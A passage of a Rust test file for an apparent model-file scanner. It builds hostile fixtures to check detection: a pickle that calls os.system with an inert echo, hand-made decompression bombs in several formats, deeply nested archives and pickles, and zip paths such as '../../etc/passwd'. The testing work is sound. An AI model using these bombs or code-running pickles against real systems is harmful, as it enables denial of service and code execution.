//! Hostile inputs: each must give a finding or a clear verdict, in bounded time and memory, and
//! never a panic.
//!
//! Every fixture is built here, in a temporary folder. Payloads are inert (`echo airlock-test`)
//! and nothing is ever loaded or unpickled: airlock only reads bytes. Zip archives are written
//! by the small writer below (local headers, central directory, end record), so each test can
//! damage exactly the structure it is about.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::mpsc::{self, RecvTimeoutError};
use std::time::{Duration, Instant};

use airlock::analyse::BudgetLimits;
use airlock::scan::{scan_file, FileReport};
use airlock::{Format, Severity, Verdict};

/// `pickle.dumps` (protocol 2) of an object whose `__reduce__` returns
/// `(os.system, ('echo airlock-test',))`.
const OS_SYSTEM_PICKLE: &[u8] = b"\x80\x02cposix\nsystem\nX\x11\x00\x00\x00echo airlock-test\x85R.";

/// Wall time after which a scan counts as hung (debug builds, tests running in parallel).
const HANG: Duration = Duration::from_secs(60);

// ---------------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------------

/// Scan `path` on its own thread (default stack size, as in the scanner's worker pool); fail the
/// test if the scan panics or is still running after `within`.
fn scan_within(path: &Path, limits: BudgetLimits, within: Duration) -> (FileReport, Duration) {
    let (tx, rx) = mpsc::channel();
    let p = path.to_path_buf();
    let start = Instant::now();
    std::thread::Builder::new()
        .name(format!("scan {}", path.display()))
        .spawn(move || {
            let _ = tx.send(scan_file(&p, limits));
        })
        .expect("spawn the scan thread");
    match rx.recv_timeout(within) {
        Ok(r) => (r, start.elapsed()),
        Err(RecvTimeoutError::Timeout) => {
            panic!("scan of {} still running after {within:?}", path.display())
        }
        Err(RecvTimeoutError::Disconnected) => panic!("scan of {} panicked", path.display()),
    }
}

fn scan_default(path: &Path) -> (FileReport, Duration) {
    scan_within(path, BudgetLimits::default(), HANG)
}

fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, bytes).expect("write fixture");
    p
}

fn ids(r: &FileReport) -> Vec<&'static str> {
    r.findings.iter().map(|f| f.rule.id).collect()
}

/// The findings of `rule`, failing with the whole report when there is none.
fn with_rule<'r>(r: &'r FileReport, rule: &str) -> Vec<&'r airlock::Finding> {
    let found: Vec<_> = r.findings.iter().filter(|f| f.rule.id == rule).collect();
    assert!(
        !found.is_empty(),
        "expected a {rule} finding for {}; got {:#?}",
        r.path.display(),
        r.findings
            .iter()
            .map(|f| (f.rule.id, &f.message, &f.evidence, f.location.to_string()))
            .collect::<Vec<_>>()
    );
    found
}

fn deflate(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    e.write_all(data).expect("deflate");
    e.finish().expect("deflate")
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).expect("gzip");
    e.finish().expect("gzip")
}

fn crc32(data: &[u8]) -> u32 {
    let mut c = flate2::Crc::new();
    c.update(data);
    c.sum()
}

/// A raw deflate stream that inflates to `chunk` repeated `times` times, built without ever
/// holding the inflated bytes: `chunk` is compressed once and sync-flushed, which leaves
/// non-final blocks that end on a byte boundary and refer to nothing before them, so they can
/// be repeated; an empty final block ends the stream. Returns (stream, CRC-32, inflated size).
fn repeated_deflate(chunk: &[u8], times: u64) -> (Vec<u8>, u32, u64) {
    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    e.write_all(chunk).expect("deflate");
    e.flush().expect("sync flush");
    let block = e.get_ref().clone();
    let mut stream = Vec::with_capacity(block.len() * times as usize + 2);
    let mut crc = flate2::Crc::new();
    let mut one = flate2::Crc::new();
    one.update(chunk);
    for _ in 0..times {
        stream.extend_from_slice(&block);
        crc.combine(&one);
    }
    // BFINAL=1, BTYPE=01 (fixed Huffman), end-of-block: the empty final block.
    stream.extend_from_slice(&[0x03, 0x00]);
    (stream, crc.sum(), chunk.len() as u64 * times)
}

/// 1 MiB that sniffs as a protocol-2 pickle (`PROTO 2`, `NONE`), then zero bytes (no opcode):
/// airlock must decompress all of it to judge it, and the pickle breaks at byte 3.
fn pickle_like_chunk() -> Vec<u8> {
    let mut c = vec![0u8; 1 << 20];
    c[..3].copy_from_slice(b"\x80\x02N");
    c
}

/// One member for [`zip`].
struct Member {
    name: Vec<u8>,
    /// General-purpose bit flags (bit 1: an LZMA end marker ends the data).
    flags: u16,
    method: u16,
    raw: Vec<u8>,
    crc: u32,
    size: u64,
}

impl Member {
    fn stored(name: &str, data: &[u8]) -> Self {
        Member {
            name: name.as_bytes().to_vec(),
            flags: 0,
            method: 0,
            raw: data.to_vec(),
            crc: crc32(data),
            size: data.len() as u64,
        }
    }

    fn deflated(name: &str, data: &[u8]) -> Self {
        Member {
            name: name.as_bytes().to_vec(),
            flags: 0,
            method: 8,
            raw: deflate(data),
            crc: crc32(data),
            size: data.len() as u64,
        }
    }
}

/// A written zip and where its parts are.
struct Zip {
    bytes: Vec<u8>,
    /// Offset of each local header.
    local: Vec<u32>,
    /// Offset of the central directory.
    central: usize,
    /// Offset of the end of central directory record.
    eocd: usize,
}

fn le16(v: &mut Vec<u8>, x: u16) {
    v.extend_from_slice(&x.to_le_bytes());
}

fn le32(v: &mut Vec<u8>, x: u32) {
    v.extend_from_slice(&x.to_le_bytes());
}

fn u32_of(x: u64) -> u32 {
    u32::try_from(x).expect("the test zip writer has no ZIP64")
}

/// Write a zip: local headers and data, then the central directory, then the end record.
fn zip(members: &[Member]) -> Zip {
    let mut out = Vec::new();
    let mut local = Vec::new();
    for m in members {
        local.push(u32_of(out.len() as u64));
        out.extend_from_slice(b"PK\x03\x04");
        le16(&mut out, 20); // version needed
        le16(&mut out, m.flags);
        le16(&mut out, m.method);
        le16(&mut out, 0); // time
        le16(&mut out, 0x21); // date: 1980-01-01
        le32(&mut out, m.crc);
        le32(&mut out, u32_of(m.raw.len() as u64));
        le32(&mut out, u32_of(m.size));
        le16(&mut out, m.name.len() as u16);
        le16(&mut out, 0); // extra length
        out.extend_from_slice(&m.name);
        out.extend_from_slice(&m.raw);
    }
    let central = out.len();
    for (m, &offset) in members.iter().zip(&local) {
        central_entry(&mut out, m, offset);
    }
    let eocd = out.len();
    end_record(&mut out, members.len() as u16, central, eocd);
    Zip {
        bytes: out,
        local,
        central,
        eocd,
    }
}

fn central_entry(out: &mut Vec<u8>, m: &Member, local_offset: u32) {
    out.extend_from_slice(b"PK\x01\x02");
    le16(out, 20); // version made by
    le16(out, 20); // version needed
    le16(out, m.flags);
    le16(out, m.method);
    le16(out, 0); // time
    le16(out, 0x21); // date
    le32(out, m.crc);
    le32(out, u32_of(m.raw.len() as u64));
    le32(out, u32_of(m.size));
    le16(out, m.name.len() as u16);
    le16(out, 0); // extra length
    le16(out, 0); // comment length
    le16(out, 0); // disk number
    le16(out, 0); // internal attributes
    le32(out, 0); // external attributes
    le32(out, local_offset);
    out.extend_from_slice(&m.name);
}

fn end_record(out: &mut Vec<u8>, count: u16, central: usize, eocd: usize) {
    out.extend_from_slice(b"PK\x05\x06");
    le16(out, 0); // this disk
    le16(out, 0); // disk with the directory
    le16(out, count);
    le16(out, count);
    le32(out, u32_of((eocd - central) as u64));
    le32(out, u32_of(central as u64));
    le16(out, 0); // comment length
}

/// A deterministic byte generator (Numerical Recipes LCG), for reproducible noise.
fn lcg_bytes(seed: u32, n: usize) -> Vec<u8> {
    let mut s = seed;
    (0..n)
        .map(|_| {
            s = s.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            (s >> 24) as u8
        })
        .collect()
}

// ---------------------------------------------------------------------------------------------
// Decompression bombs
// ---------------------------------------------------------------------------------------------

/// A 1.5 GiB member in ~1.5 MiB of deflate (ratio ~1000:1). With the default 1 GiB member bound
/// airlock would hold 300 MiB before the 200:1 ratio bound fires, so the test lowers the ratio to
/// 20:1: the bound must fire after about 30 MiB, long before the member bound, and say so.
#[test]
fn zip_bomb_stops_at_the_ratio_bound() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (stream, crc, size) = repeated_deflate(&pickle_like_chunk(), 1536);
    assert_eq!(size, 1536 << 20);
    let z = zip(&[Member {
        flags: 0,
        name: b"bomb.pkl".to_vec(),
        method: 8,
        raw: stream,
        crc,
        size,
    }]);
    let path = write(dir.path(), "bomb.zip", &z.bytes);
    let limits = BudgetLimits {
        max_ratio: 20,
        ratio_floor: 1 << 20,
        ..BudgetLimits::default()
    };
    let (r, _) = scan_within(&path, limits, HANG);
    let f = with_rule(&r, "resource-limit");
    assert!(
        f.iter()
            .any(|f| f.evidence.contains("compression ratio above 20:1")),
        "{f:#?}"
    );
    assert!(f
        .iter()
        .any(|f| f.location.members == vec!["bomb.pkl".to_string()]));
    // The member's own content is still judged from what was read.
    assert!(ids(&r).contains(&"pickle-malformed"), "{:?}", ids(&r));
}

/// The same bomb against the member-size bound: airlock never holds more than the bound.
#[test]
fn zip_bomb_stops_at_the_member_size_bound() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (stream, crc, size) = repeated_deflate(&pickle_like_chunk(), 1536);
    let z = zip(&[Member {
        flags: 0,
        name: b"bomb.pkl".to_vec(),
        method: 8,
        raw: stream,
        crc,
        size,
    }]);
    let path = write(dir.path(), "bomb.zip", &z.bytes);
    let limits = BudgetLimits {
        max_member_size: 8 << 20,
        ..BudgetLimits::default()
    };
    let (r, _) = scan_within(&path, limits, HANG);
    let f = with_rule(&r, "resource-limit");
    assert!(
        f.iter()
            .any(|f| f.evidence.contains("decompressed size above 8388608 bytes")),
        "{f:#?}"
    );
}

/// A gzip bomb (same stream in a gzip wrapper) against the ratio bound.
#[test]
fn gzip_bomb_stops_at_the_ratio_bound() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (stream, crc, size) = repeated_deflate(&pickle_like_chunk(), 1536);
    let mut gz = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    gz.extend_from_slice(&stream);
    le32(&mut gz, crc);
    le32(&mut gz, size as u32);
    let path = write(dir.path(), "bomb.pkl.gz", &gz);
    let limits = BudgetLimits {
        max_ratio: 20,
        ratio_floor: 1 << 20,
        ..BudgetLimits::default()
    };
    let (r, _) = scan_within(&path, limits, HANG);
    assert_eq!(r.format, Format::Gzip);
    let f = with_rule(&r, "resource-limit");
    assert!(
        f.iter()
            .any(|f| f.evidence.contains("compression ratio above 20:1")),
        "{f:#?}"
    );
}

/// A zstd frame built by hand that decodes to a pickle-like head and then `blocks` RLE blocks of
/// 128 KiB zeros (4 bytes each, 32 768:1): a zstd bomb without compressing gigabytes here.
fn zstd_rle_bomb(blocks: usize) -> Vec<u8> {
    let mut z = 0xFD2F_B528u32.to_le_bytes().to_vec();
    z.push(0x00); // frame header descriptor: no content size, not single-segment
    z.push(7 << 3); // window descriptor: 1 << (10 + 7) = 128 KiB
    let block = |last: bool, kind: u32, size: u32| {
        let h = u32::from(last) | (kind << 1) | (size << 3);
        h.to_le_bytes()[..3].to_vec()
    };
    z.extend(block(false, 0, 3)); // a raw block: the pickle head
    z.extend_from_slice(b"\x80\x02N");
    for i in 0..blocks {
        z.extend(block(i + 1 == blocks, 1, 128 << 10));
        z.push(0);
    }
    z
}

/// A zstd bomb (RLE blocks, 8 GiB from 256 KiB): decoding stops at the ratio bound, within the
/// time bound, and the pickle head is judged.
#[test]
fn zstd_bomb_stops_at_the_ratio_bound() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = write(dir.path(), "bomb.pkl.zst", &zstd_rle_bomb(65_536));
    let limits = BudgetLimits {
        max_ratio: 20,
        ratio_floor: 1 << 20,
        ..BudgetLimits::default()
    };
    let (r, _) = scan_within(&path, limits, HANG);
    assert_eq!(r.format, Format::Zstd);
    let f = with_rule(&r, "resource-limit");
    assert!(
        f.iter()
            .any(|f| f.evidence.contains("compression ratio above 20:1")),
        "{f:#?}"
    );
}

/// An LZ4 bomb (joblib's `compress='lz4'` around 256 MiB of mostly zeros): the ratio bound
/// stops it.
#[test]
fn lz4_bomb_stops_at_the_ratio_bound() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut e = lz4_flex::frame::FrameEncoder::new(Vec::new());
    let chunk = pickle_like_chunk();
    e.write_all(&chunk).expect("compress");
    let zeros = vec![0u8; chunk.len()];
    for _ in 1..256 {
        e.write_all(&zeros).expect("compress");
    }
    let lz4 = e.finish().expect("finish lz4");
    let path = write(dir.path(), "bomb.joblib", &lz4);
    let limits = BudgetLimits {
        max_ratio: 20,
        ratio_floor: 1 << 20,
        ..BudgetLimits::default()
    };
    let (r, _) = scan_within(&path, limits, HANG);
    assert_eq!(r.format, Format::Lz4);
    let f = with_rule(&r, "resource-limit");
    assert!(
        f.iter()
            .any(|f| f.evidence.contains("compression ratio above 20:1")),
        "{f:#?}"
    );
}

/// `chunks` MiB of [`pickle_like_chunk`] compressed as one xz stream with a single block (the
/// shape that made the old decoder hold the whole block in memory).
fn xz_single_block(chunks: usize) -> Vec<u8> {
    let opts = lzma_rust2::XzOptions::with_preset(0);
    let mut w = lzma_rust2::XzWriter::new(Vec::new(), opts).expect("xz writer");
    let chunk = pickle_like_chunk();
    let zeros = vec![0u8; chunk.len()];
    w.write_all(&chunk).expect("compress");
    for _ in 1..chunks {
        w.write_all(&zeros).expect("compress");
    }
    w.finish().expect("finish xz")
}

/// An xz bomb in one block: decompression stops at the ratio bound and the pickle prefix is
/// still judged.
#[test]
fn xz_bomb_stops_at_the_ratio_bound() {
    let dir = tempfile::tempdir().expect("tempdir");
    let xz = xz_single_block(256);
    assert!(xz.len() < 256 << 10, "{} bytes", xz.len());
    let path = write(dir.path(), "bomb.pkl.xz", &xz);
    let limits = BudgetLimits {
        max_ratio: 20,
        ratio_floor: 1 << 20,
        ..BudgetLimits::default()
    };
    let (r, _) = scan_within(&path, limits, HANG);
    assert_eq!(r.format, Format::Xz);
    let f = with_rule(&r, "resource-limit");
    assert!(
        f.iter()
            .any(|f| f.evidence.contains("compression ratio above 20:1")),
        "{f:#?}"
    );
    assert!(ids(&r).contains(&"pickle-malformed"), "{:?}", ids(&r));
}

/// The same bomb repeated as 64 concatenated xz streams (all of which `xz -d` reads): the
/// member-size bound stops it.
#[test]
fn multi_stream_xz_bomb_stops_at_the_size_bound() {
    let dir = tempfile::tempdir().expect("tempdir");
    let one = xz_single_block(4);
    let xz: Vec<u8> = std::iter::repeat_n(&one, 64).flatten().copied().collect();
    let path = write(dir.path(), "bomb.xz", &xz);
    let limits = BudgetLimits {
        max_member_size: 8 << 20,
        ..BudgetLimits::default()
    };
    let (r, _) = scan_within(&path, limits, HANG);
    let f = with_rule(&r, "resource-limit");
    assert!(
        f.iter()
            .any(|f| f.evidence.contains("decompressed size above 8388608 bytes")),
        "{f:#?}"
    );
}

/// Overlapping members (David Fifield's "better zip bomb"): 64 central directory entries share
/// one 1 MiB local member. The overlap is reported and the shared member is analysed once: one
/// pickle, not 64, and no decompression budget spent on repeats.
#[test]
fn overlapping_zip_members_are_analysed_once() {
    let dir = tempfile::tempdir().expect("tempdir");
    let m = Member::deflated("kernel.pkl", &pickle_like_chunk());
    let one = zip(std::slice::from_ref(&m));
    // Keep the local header and its data; write 64 directory entries that all point at it.
    let mut z = one.bytes[..one.central].to_vec();
    let central = z.len();
    for _ in 0..64 {
        central_entry(&mut z, &m, one.local[0]);
    }
    let eocd = z.len();
    end_record(&mut z, 64, central, eocd);
    let path = write(dir.path(), "overlap.zip", &z);
    let limits = BudgetLimits {
        max_decompressed: 16 << 20,
        ..BudgetLimits::default()
    };
    let (r, _) = scan_within(&path, limits, HANG);
    let f = with_rule(&r, "zip-overlapping-members");
    assert!(f[0].evidence.starts_with("63 entries"), "{f:#?}");
    let analysed = r
        .findings
        .iter()
        .filter(|f| f.rule.id == "pickle-malformed")
        .count();
    assert_eq!(analysed, 1, "{:#?}", ids(&r));
    assert!(!ids(&r).contains(&"resource-limit"), "{:?}", ids(&r));
}

// ---------------------------------------------------------------------------------------------
// Nesting
// ---------------------------------------------------------------------------------------------

/// gzip inside gzip, 12 levels, around a malicious pickle: the depth bound (8) stops it.
#[test]
fn gzip_nested_twelve_levels_stops_at_the_depth_bound() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut data = OS_SYSTEM_PICKLE.to_vec();
    for _ in 0..12 {
        data = gzip(&data);
    }
    let path = write(dir.path(), "nested.gz", &data);
    let (r, _) = scan_default(&path);
    let f = with_rule(&r, "resource-limit");
    assert!(
        f.iter()
            .any(|f| f.evidence.contains("nesting deeper than 8")),
        "{f:#?}"
    );
    assert!(f.iter().any(|f| f.location.members.len() == 9), "{f:#?}");
}

/// zip inside zip, 12 levels: the depth bound stops it.
#[test]
fn zip_nested_twelve_levels_stops_at_the_depth_bound() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut data = OS_SYSTEM_PICKLE.to_vec();
    let mut name = "payload.pkl".to_string();
    for level in 0..12 {
        data = zip(&[Member::stored(&name, &data)]).bytes;
        name = format!("level{level}.zip");
    }
    let path = write(dir.path(), "nested.zip", &data);
    let (r, _) = scan_default(&path);
    let f = with_rule(&r, "resource-limit");
    assert!(
        f.iter()
            .any(|f| f.evidence.contains("nesting deeper than 8")),
        "{f:#?}"
    );
}

/// Bounds carried through mixed nesting: depth is counted across wrappers of different kinds.
#[test]
fn mixed_nesting_counts_every_level() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut data = OS_SYSTEM_PICKLE.to_vec();
    for level in 0..6 {
        data = zip(&[Member::deflated(&format!("l{level}"), &data)]).bytes;
        data = gzip(&data);
    }
    let path = write(dir.path(), "mixed.gz", &data);
    let (r, _) = scan_default(&path);
    let f = with_rule(&r, "resource-limit");
    assert!(
        f.iter()
            .any(|f| f.evidence.contains("nesting deeper than 8")),
        "{f:#?}"
    );
}

// ---------------------------------------------------------------------------------------------
// Pickles
// ---------------------------------------------------------------------------------------------

/// 12 bytes claiming a 4 GiB BINBYTES8 argument: an error, never an allocation.
#[test]
fn pickle_binbytes8_claiming_4_gib_is_malformed_at_once() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut p = b"\x80\x04\x8e".to_vec();
    p.extend_from_slice(&(4u64 << 30).to_le_bytes());
    p.extend(std::iter::repeat_n(b'a', 88));
    p.push(b'.');
    assert_eq!(p.len(), 100);
    let path = write(dir.path(), "huge.pkl", &p);
    let (r, took) = scan_default(&path);
    assert!(took < Duration::from_secs(2), "took {took:?}");
    let f = with_rule(&r, "pickle-malformed");
    assert!(f[0].evidence.contains("BINBYTES8"), "{}", f[0].evidence);
    assert!(f[0].evidence.contains("4294967296"), "{}", f[0].evidence);
}

/// The same claim from BINUNICODE8 and BYTEARRAY8.
#[test]
fn pickle_other_8_byte_lengths_are_malformed_at_once() {
    let dir = tempfile::tempdir().expect("tempdir");
    for (op, name) in [(0x8du8, "BINUNICODE8"), (0x96, "BYTEARRAY8")] {
        let mut p = vec![0x80, 5, op];
        p.extend_from_slice(&u64::MAX.to_le_bytes());
        p.extend_from_slice(b"x.");
        let path = write(dir.path(), &format!("{name}.pkl"), &p);
        let (r, took) = scan_default(&path);
        assert!(took < Duration::from_secs(2), "took {took:?}");
        let f = with_rule(&r, "pickle-malformed");
        assert!(f[0].evidence.contains(name), "{}", f[0].evidence);
    }
}

/// 1,000,000 MARKs and a STOP: the stream is invalid (nothing on the stack above the marks).
#[test]
fn pickle_one_million_marks() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut p = b"\x80\x02".to_vec();
    p.extend(std::iter::repeat_n(b'(', 1_000_000));
    p.push(b'.');
    let path = write(dir.path(), "marks.pkl", &p);
    let (r, took) = scan_default(&path);
    assert!(took < Duration::from_secs(20), "took {took:?}");
    // CPython fails the same way: STOP finds nothing above the last mark.
    let f = with_rule(&r, "pickle-malformed");
    assert_eq!(f[0].evidence, "stack underflow");
}

/// More MARKs than the mark-stack bound: `resource-limit` naming the bound.
#[test]
fn pickle_marks_past_the_mark_bound() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut p = b"\x80\x02".to_vec();
    p.extend(std::iter::repeat_n(b'(', 2_500_000));
    p.push(b'.');
    let path = write(dir.path(), "marks.pkl", &p);
    let (r, _) = scan_default(&path);
    let f = with_rule(&r, "resource-limit");
    assert!(
        f.iter()
            .any(|f| f.evidence.contains("more than 2000000 MARKs")),
        "{f:#?}"
    );
}

/// 2,000,000 lists each appended to the one before: a valid, deeply nested pickle. It is read
/// without recursion until the machine's memory bound (64 MiB of values and stack; the lists
/// and the stack alone would take 150 MB), which is reported, low: the rest, decoded opcode by
/// opcode, is plain data. Nothing else is reported.
#[test]
fn pickle_two_million_nested_lists() {
    let dir = tempfile::tempdir().expect("tempdir");
    let n = 2_000_000;
    let mut p = b"\x80\x02".to_vec();
    p.extend(std::iter::repeat_n(b']', n));
    p.extend(std::iter::repeat_n(b'a', n - 1));
    p.push(b'.');
    let path = write(dir.path(), "lists.pkl", &p);
    let (r, _) = scan_default(&path);
    assert_eq!(r.format, Format::Pickle(Some(2)));
    assert_eq!(ids(&r), vec!["resource-limit"]);
    assert!(
        r.findings[0].evidence.contains("64 MiB"),
        "{:?}",
        r.findings[0]
    );
    assert_eq!(r.findings[0].severity, Severity::Low);
}

/// 2,000,000 nested one-tuples as the argument of `os.system`: the memory bound stops the
/// machine before the call, and the linear pass after it still reports the import (high, so
/// the default gate fails).
#[test]
fn pickle_two_million_nested_tuples_as_a_call_argument() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut p = b"\x80\x02cposix\nsystem\n)".to_vec();
    p.extend(std::iter::repeat_n(0x85u8, 2_000_000)); // TUPLE1
    p.extend_from_slice(b"\x85R.");
    let path = write(dir.path(), "tuples.pkl", &p);
    let (r, _) = scan_default(&path);
    let f = with_rule(&r, "pickle-dangerous-global");
    assert_eq!(f[0].evidence, "posix.system");
    assert_eq!(f[0].severity, airlock::Severity::High);
    let f = with_rule(&r, "resource-limit");
    assert!(
        f[0].evidence.contains("value store full"),
        "{}",
        f[0].evidence
    );
    assert_eq!(r.verdict, Verdict::Malicious);
}

/// A chain of 100,000 `getattr(getattr(...(posix.system, 'a')...), 'a')` calls, then a call of
/// the result. Run through the binary, so a stack overflow fails this test instead of aborting
/// every other one.
#[test]
fn pickle_deep_getattr_chain() {
    let dir = tempfile::tempdir().expect("tempdir");
    let n = 100_000;
    let mut p = b"\x80\x02cbuiltins\ngetattr\nq\x00".to_vec();
    for _ in 1..n {
        p.extend_from_slice(b"h\x00"); // BINGET 0
    }
    p.extend_from_slice(b"cposix\nsystem\n");
    for _ in 0..n {
        p.extend_from_slice(b"X\x01\x00\x00\x00a\x86R"); // 'a', TUPLE2, REDUCE
    }
    p.extend_from_slice(b"X\x11\x00\x00\x00echo airlock-test\x85R.");
    let path = write(dir.path(), "chain.pkl", &p);
    let out = run_binary(&["scan", "--format", "json"], &path, HANG);
    assert_eq!(
        out.status.code(),
        Some(1),
        "exit status {:?}, stderr: {}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("pickle-dangerous-call") || stdout.contains("pickle-unresolved-call"),
        "{stdout}"
    );
}

/// Run the airlock binary on one path; fail if it is still running after `within`.
fn run_binary(args: &[&str], path: &Path, within: Duration) -> std::process::Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_airlock"))
        .args(args)
        .arg(path)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("run airlock");
    // Read the pipes on threads so a large report cannot block the child.
    let mut so = child.stdout.take().expect("stdout");
    let mut se = child.stderr.take().expect("stderr");
    let t_out = std::thread::spawn(move || {
        let mut v = Vec::new();
        let _ = std::io::Read::read_to_end(&mut so, &mut v);
        v
    });
    let t_err = std::thread::spawn(move || {
        let mut v = Vec::new();
        let _ = std::io::Read::read_to_end(&mut se, &mut v);
        v
    });
    let start = Instant::now();
    let status = loop {
        if let Some(s) = child.try_wait().expect("wait for airlock") {
            break s;
        }
        if start.elapsed() > within {
            let _ = child.kill();
            let _ = child.wait();
            panic!(
                "airlock on {} still running after {within:?}",
                path.display()
            );
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    std::process::Output {
        status,
        stdout: t_out.join().expect("stdout reader"),
        stderr: t_err.join().expect("stderr reader"),
    }
}

// ---------------------------------------------------------------------------------------------
// Zip structure
// ---------------------------------------------------------------------------------------------

#[test]
fn zip_member_names_that_leave_the_folder() {
    let dir = tempfile::tempdir().expect("tempdir");
    let names = [
        "../../etc/passwd",
        "/etc/cron.d/x",
        "a/../../b",
        "C:\\evil.txt",
    ];
    let members: Vec<Member> = names
        .iter()
        .map(|n| Member::stored(n, b"airlock-test\n"))
        .collect();
    let path = write(dir.path(), "escape.zip", &zip(&members).bytes);
    let (r, _) = scan_default(&path);
    let f = with_rule(&r, "archive-path-traversal");
    for n in names {
        assert!(
            f.iter().any(|f| f.location.members == vec![n.to_string()]
                && f.evidence.contains(&format!("{n:?}"))),
            "{n}: {f:#?}"
        );
    }
    // `..` inside a component is not a parent reference.
    let inside = zip(&[Member::stored("model/..weights..txt", b"x")]);
    let path = write(dir.path(), "inside.zip", &inside.bytes);
    let (r, _) = scan_default(&path);
    assert!(
        !ids(&r).contains(&"archive-path-traversal"),
        "{:?}",
        ids(&r)
    );
}

/// A zip member compressed with LZMA (method 14) as Python's `zipfile` writes it (APPNOTE
/// 5.8.8: SDK version, properties size 5, properties, raw stream), with an end marker (flag bit
/// 1) or ending at its declared size.
fn lzma_member(name: &str, data: &[u8], end_marker: bool, claimed_dict: Option<u32>) -> Member {
    let opts = lzma_rust2::LzmaOptions::with_preset(1);
    let mut w =
        lzma_rust2::LzmaWriter::new_no_header(Vec::new(), &opts, end_marker).expect("lzma writer");
    w.write_all(data).expect("compress");
    let props = w.props();
    let stream = w.finish().expect("finish lzma");
    let mut raw = vec![9, 20, 5, 0, props];
    raw.extend_from_slice(&claimed_dict.unwrap_or(opts.dict_size).to_le_bytes());
    raw.extend_from_slice(&stream);
    Member {
        name: name.as_bytes().to_vec(),
        flags: if end_marker { 2 } else { 0 },
        method: 14,
        raw,
        crc: crc32(data),
        size: data.len() as u64,
    }
}

/// Python's `zipfile` reads LZMA (14) and xz (95) members, and so `numpy.load` of an `.npz` and
/// every zip-based loader built on it: a pickle in either is analysed, not skipped as an
/// unsupported method.
#[test]
fn zip_lzma_and_xz_members_are_analysed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut xz = lzma_rust2::XzWriter::new(Vec::new(), lzma_rust2::XzOptions::with_preset(0))
        .expect("xz writer");
    xz.write_all(OS_SYSTEM_PICKLE).expect("compress");
    let xz_member = Member {
        name: b"c.pkl".to_vec(),
        flags: 0,
        method: 95,
        raw: xz.finish().expect("finish xz"),
        crc: crc32(OS_SYSTEM_PICKLE),
        size: OS_SYSTEM_PICKLE.len() as u64,
    };
    let z = zip(&[
        lzma_member("a.pkl", OS_SYSTEM_PICKLE, true, None),
        lzma_member("b.pkl", OS_SYSTEM_PICKLE, false, None),
        xz_member,
        // A 4 GiB dictionary claimed for a 31-byte member: capped, decoded in bounded memory.
        lzma_member("d.pkl", OS_SYSTEM_PICKLE, true, Some(u32::MAX)),
        // The end-marker flag cleared and a declared size larger than the data, with a 1 GiB
        // dictionary: CPython's zipfile ignores the flag and stops at the end marker.
        {
            let mut m = lzma_member("e.pkl", OS_SYSTEM_PICKLE, true, Some(1 << 30));
            m.flags = 0;
            m.size = 0xF000_0000;
            m
        },
    ]);
    let path = write(dir.path(), "weights.zip", &z.bytes);
    let (r, _) = scan_default(&path);
    let mut members: Vec<_> = with_rule(&r, "pickle-dangerous-call")
        .iter()
        .map(|f| (f.location.members.join("!"), f.severity))
        .collect();
    members.sort();
    assert_eq!(
        members,
        ["a.pkl", "b.pkl", "c.pkl", "d.pkl", "e.pkl"].map(|m| (m.to_string(), Severity::Critical))
    );
    assert!(
        !r.findings
            .iter()
            .any(|f| f.rule.id == "archive-unsupported-method"),
        "{:#?}",
        r.findings
    );
}

/// An LZMA member whose header is not the 5 properties bytes gets a finding naming why.
#[test]
fn zip_lzma_member_with_a_bad_header_is_malformed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut m = lzma_member("a.pkl", OS_SYSTEM_PICKLE, true, None);
    m.raw[2] = 4;
    let path = write(dir.path(), "bad.zip", &zip(&[m]).bytes);
    let (r, _) = scan_default(&path);
    let f = with_rule(&r, "archive-malformed");
    assert!(
        f[0].message.contains("LZMA properties of 4 bytes"),
        "{f:#?}"
    );
    assert_eq!(f[0].location.members, vec!["a.pkl".to_string()]);
}

/// A small zip whose last 30 bytes are cut: the end record and part of the directory are gone.
/// The members are still read from their local headers and the payload is found.
#[test]
fn zip_truncated_at_the_end_still_reads_local_headers() {
    let dir = tempfile::tempdir().expect("tempdir");
    let z = zip(&[
        Member::stored("notes.txt", b"hello\n"),
        Member::deflated("archive/data.pkl", OS_SYSTEM_PICKLE),
    ]);
    let cut = &z.bytes[..z.bytes.len() - 30];
    let path = write(dir.path(), "cut.zip", cut);
    let (r, _) = scan_default(&path);
    let m = with_rule(&r, "archive-malformed");
    assert!(
        m.iter().any(|f| f.evidence.contains("2 local headers")),
        "{m:#?}"
    );
    let d = with_rule(&r, "pickle-dangerous-call");
    assert_eq!(d[0].location.members, vec!["archive/data.pkl".to_string()]);
    assert_eq!(r.verdict, Verdict::Malicious);
}

/// The central directory cut in half (and everything after it).
#[test]
fn zip_central_directory_cut_in_half_still_reads_local_headers() {
    let dir = tempfile::tempdir().expect("tempdir");
    let z = zip(&[
        Member::deflated("archive/data.pkl", OS_SYSTEM_PICKLE),
        Member::stored("archive/version", b"3\n"),
    ]);
